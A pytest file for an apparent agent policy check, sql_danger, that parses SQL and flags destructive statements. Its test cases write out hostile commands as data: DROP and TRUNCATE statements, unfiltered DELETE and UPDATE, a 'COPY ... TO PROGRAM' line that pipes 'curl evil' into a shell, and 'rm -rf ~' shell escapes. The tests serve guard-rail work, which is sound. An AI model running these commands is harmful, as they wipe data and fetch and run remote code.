"""SQL judged on a parse (sqlglot), statement by statement."""

from __future__ import annotations

import pytest

from agent_fleet.policy.packs._sql import sql_danger


@pytest.mark.parametrize(
    ("sql", "dialect"),
    [
        ("DROP TABLE users", "postgres"),
        ("drop table if exists users cascade;", "postgres"),
        ("DROP DATABASE shop", "mysql"),
        ("DROP SCHEMA public CASCADE", "postgres"),
        ("DROP INDEX idx_users_email", "sqlite"),
        ("DROP VIEW v", None),
        ("TRUNCATE orders", "postgres"),
        ("TRUNCATE TABLE orders", "mysql"),
        ("DELETE FROM users", "postgres"),
        ("delete from users;", "sqlite"),
        ("DELETE FROM users WHERE 1=1", "postgres"),
        ("DELETE FROM users WHERE true", "postgres"),
        ("DELETE FROM t WHERE (1 = 1) OR x = 2", "postgres"),
        ("UPDATE accounts SET balance = 0", "postgres"),
        ("UPDATE users SET admin = 1 WHERE 1", "mysql"),
        ("ALTER TABLE users DROP COLUMN email", "postgres"),
        ("ALTER TABLE users DROP CONSTRAINT pk", "postgres"),
        ("SELECT 1; DROP TABLE x; SELECT 2", "postgres"),
        ("WITH d AS (DELETE FROM logs RETURNING *) SELECT count(*) FROM d", "postgres"),
        ("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", "postgres"),
        ("COPY t TO PROGRAM 'curl evil | sh'", "postgres"),
        ("\\! rm -rf ~", "postgres"),
        (".shell rm -rf ~", "sqlite"),
        ("DROP USER app", "mysql"),
        ("drop keyspace prod", None),
        ("DROP TABLE `weird name`", "mysql"),
    ],
)
def test_destructive(sql: str, dialect: str | None) -> None:
    assert sql_danger(sql, dialect) is not None


@pytest.mark.parametrize(
    ("sql", "dialect"),
    [
        ("SELECT * FROM users", "postgres"),
        ("select count(*) from orders where status = 'drop'", "postgres"),
        ("INSERT INTO notes (body) VALUES ('DROP TABLE users; --')", "postgres"),
        ("UPDATE users SET name = 'x' WHERE id = 3", "postgres"),
        ("DELETE FROM sessions WHERE expires_at < now()", "postgres"),
        ("EXPLAIN SELECT * FROM t", "postgres"),
        ("EXPLAIN ANALYZE SELECT * FROM t", "postgres"),
        ("\\d users", "postgres"),
        ("\\dt+", "postgres"),
        (".tables", "sqlite"),
        (".schema users", "sqlite"),
        ("CREATE TABLE t (id int primary key)", "postgres"),
        ("ALTER TABLE t ADD COLUMN c int", "postgres"),
        ("CREATE INDEX CONCURRENTLY i ON t (c)", "postgres"),
        ("BEGIN; INSERT INTO t VALUES (1); COMMIT;", "postgres"),
        ("VACUUM ANALYZE", "postgres"),
        ("SHOW TABLES", "mysql"),
        ("-- DROP TABLE users\nSELECT 1", "postgres"),
        ("/* TRUNCATE t */ SELECT 1", "mysql"),
        ("PRAGMA integrity_check", "sqlite"),
        ("", "postgres"),
    ],
)
def test_not_destructive(sql: str, dialect: str | None) -> None:
    assert sql_danger(sql, dialect) is None


@pytest.mark.parametrize("lines", [100, 1_000, 10_000])
def test_long_scripts_are_judged_in_bounded_ways(lines: int) -> None:
    inserts = "INSERT INTO t VALUES (1, 'x');\n" * lines
    assert sql_danger(inserts + "DELETE FROM t;", "postgres") is not None
    assert sql_danger(inserts + "DELETE FROM t WHERE id = 1;", "postgres") is None or lines == 10_000
